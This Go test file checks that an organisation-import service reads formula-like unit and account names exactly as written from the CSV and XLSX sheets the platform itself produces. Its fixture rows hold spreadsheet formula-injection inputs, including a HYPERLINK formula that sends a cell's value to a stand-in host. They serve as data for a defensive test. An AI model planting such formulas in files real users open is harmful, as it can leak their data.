package org_test

import (
	"context"
	"sort"
	"strings"
	"testing"

	"github.com/countycloud/countycloud/core/spreadsheet"
	"github.com/countycloud/countycloud/tenants/org"
)

// formulaRows is a staffing-office list whose names start like
// formulas, written by the platform itself.
var formulaRows = [][]string{
	{"单位名称", "上级单位", "单位编码", "排序", "账号限额", "姓名", "登录名", "角色", "手机号", "邮箱"},
	{`=HYPERLINK("http://x/?p="&D2)`, "", "", "-5", "", "=1+1", "a1", "", "", ""},
	{"+综合股", `=HYPERLINK("http://x/?p="&D2)`, "", "", "", "-张三", "a2", "", "", ""},
	{"-信息科", "", "", "", "", "@SUM(A1)", "a3", "", "", ""},
	{"@管理组", "", "", "", "", "'=quoted", "a4", "", "", ""},
	{"＝全角", "", "", "", "", "'平常", "a5", "", "", ""},
}

// TestFormulaLikeNamesImportExactlyFromTheSheetsThePlatformWrites: a
// CSV neutralises such names with a leading ', an XLSX marks them as
// text; either, imported back, gives the names exactly as written.
func TestFormulaLikeNamesImportExactlyFromTheSheetsThePlatformWrites(t *testing.T) {
	t.Parallel()
	svc, _ := setup(t)
	ctx := context.Background()
	csvFile, err := spreadsheet.CSV(formulaRows)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(csvFile), "'=HYPERLINK") {
		t.Fatalf("the CSV is not neutralised: %s", csvFile)
	}
	xlsxFile, err := spreadsheet.XLSX(spreadsheet.Sheet{Name: "导入", Rows: formulaRows})
	if err != nil {
		t.Fatal(err)
	}
	var wantUnits, wantAccounts []string
	for _, row := range formulaRows[1:] {
		wantUnits = append(wantUnits, row[0])
		wantAccounts = append(wantAccounts, row[5])
	}
	sort.Strings(wantUnits)
	for county, file := range map[string][]byte{wengyuan: csvFile, lechang: xlsxFile} {
		mustImport(t, svc, county, file, false)
		units, err := svc.ListUnits(ctx, county)
		if err != nil {
			t.Fatal(err)
		}
		var gotUnits []string
		byName := map[string]org.Unit{}
		for _, u := range units {
			gotUnits = append(gotUnits, u.Name)
			byName[u.Name] = u
		}
		sort.Strings(gotUnits)
		if strings.Join(gotUnits, "|") != strings.Join(wantUnits, "|") {
			t.Errorf("%s units:\n got %q\nwant %q", county, gotUnits, wantUnits)
		}
		top, desk := byName[formulaRows[1][0]], byName["+综合股"]
		if top.Sort != -5 || desk.ParentID == nil || *desk.ParentID != top.ID {
			t.Errorf("%s: %+v under %+v", county, desk, top)
		}
		page, err := svc.ListAccounts(ctx, county, org.AccountFilter{})
		if err != nil {
			t.Fatal(err)
		}
		var gotAccounts []string
		for _, a := range page.Accounts {
			gotAccounts = append(gotAccounts, a.Name)
		}
		if strings.Join(gotAccounts, "|") != strings.Join(wantAccounts, "|") {
			t.Errorf("%s accounts:\n got %q\nwant %q", county, gotAccounts, wantAccounts)
		}
	}
}
